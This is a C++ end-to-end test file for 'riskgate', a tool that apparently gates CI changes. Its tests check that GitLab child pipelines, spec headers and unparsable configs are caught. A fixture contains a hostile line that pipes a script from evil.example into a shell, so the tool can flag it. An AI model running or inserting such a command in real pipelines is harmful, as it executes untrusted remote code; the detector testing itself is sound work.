// End to end, issue 16: GitLab CI spellings a change could use to start code the gate never
// judged: a child pipeline (`trigger: include:`) whose file had no pipeline role, a `spec:`
// header document, and configurations riskgate cannot parse in a CI range.
#include <catch2/catch.hpp>
#include <set>

#include "support/temp_repo.h"

namespace riskgate::testing {
namespace {

const std::map<std::string, std::string> kCi = {{"CI", "true"}};
const std::map<std::string, std::string> kNoCi = {{"CI", ""}};

const std::string kDeploy = "deploy:\n  image: alpine@sha256:" + std::string(64, '0') +
                            "\n  script:\n    - curl -fsSL https://evil.example/install.sh | sh\n";

std::set<std::string> Rules(const nlohmann::json& doc) {
  std::set<std::string> rules;
  for (const auto& f : doc["findings"]) rules.insert(f["rule"].get<std::string>());
  return rules;
}

}  // namespace

TEST_CASE("issue 16: a child pipeline file is GitLab CI in staged, range and worktree checks",
          "[e2e][pins][gitlab]") {
  TempRepo repo;
  const std::string base = repo.Commit("init");
  repo.Write("ci/deploy.yml", kDeploy);
  repo.Write(".gitlab-ci.yml", "deploy:\n  trigger:\n    include: ci/deploy.yml\n");
  repo.Git({"add", "-A"});
  CHECK(
      Rules(repo.RiskgateJson({"check", "--staged"}, 1, kNoCi)).contains("download-then-execute"));
  repo.Commit("child pipeline");
  CHECK(Rules(repo.RiskgateJson({"check", "--base", base}, 1, kCi))
            .contains("download-then-execute"));
  CHECK(Rules(repo.RiskgateJson({"check", "--worktree"}, 1, kNoCi))
            .contains("download-then-execute"));
}

TEST_CASE("issue 16: adding only the trigger of a child pipeline judges the old file whole",
          "[e2e][pins][gitlab]") {
  TempRepo repo;
  repo.Write("ci/deploy.yml", kDeploy);
  const std::string base = repo.Commit("a file that is no pipeline yet");
  repo.Write(".gitlab-ci.yml", "deploy:\n  trigger:\n    include:\n      - local: ci/deploy.yml\n");
  repo.Git({"add", "-A"});
  CHECK(
      Rules(repo.RiskgateJson({"check", "--staged"}, 1, kNoCi)).contains("download-then-execute"));
  repo.Commit("run it");
  CHECK(Rules(repo.RiskgateJson({"check", "--base", base}, 1, kCi))
            .contains("download-then-execute"));
}

TEST_CASE("issue 16: the jobs after a spec header document are judged", "[e2e][pins][gitlab]") {
  TempRepo repo;
  const std::string base = repo.Commit("init");
  repo.Write(".gitlab-ci.yml",
             "spec:\n  inputs:\n    stage:\n      default: test\n---\n" + kDeploy);
  repo.Commit("inputs");
  auto doc = repo.RiskgateJson({"check", "--base", base}, 1, kCi);
  CHECK(Rules(doc) == std::set<std::string>{"download-then-execute"});
  CHECK(doc["findings"][0]["line"] == 9);
}

TEST_CASE("issue 16: a GitLab file riskgate cannot parse blocks a CI range and warns locally",
          "[e2e][pins][gitlab]") {
  TempRepo repo;
  const std::string base = repo.Commit("init");
  repo.Write(".gitlab-ci.yml", "build:\n  script: [make]\n---\n" + kDeploy);
  repo.Git({"add", "-A"});
  auto staged = repo.RiskgateJson({"check", "--staged"}, 0, kNoCi);
  REQUIRE(Rules(staged) == std::set<std::string>{"unparsable-config"});
  CHECK(staged["findings"][0]["decision"] == "warn");
  repo.Commit("two documents");
  auto range = repo.RiskgateJson({"check", "--base", base}, 1, kCi);
  REQUIRE(Rules(range) == std::set<std::string>{"unparsable-config"});
  CHECK(range["findings"][0]["decision"] == "block");
  // The user's own policy decides, as for unscanned files.
  repo.Write(".riskgate.yaml", "version: 1\nlimits:\n  on_unscanned: warn\n");
  const std::string with_policy = repo.Commit("policy");
  repo.Write(".gitlab-ci.yml", "build:\n  script: [make, make test]\n---\n" + kDeploy);
  repo.Commit("edit");
  auto warned = repo.RiskgateJson({"check", "--base", with_policy}, 0, kCi);
  CHECK(Rules(warned) == std::set<std::string>{"unparsable-config"});
}

}  // namespace riskgate::testing
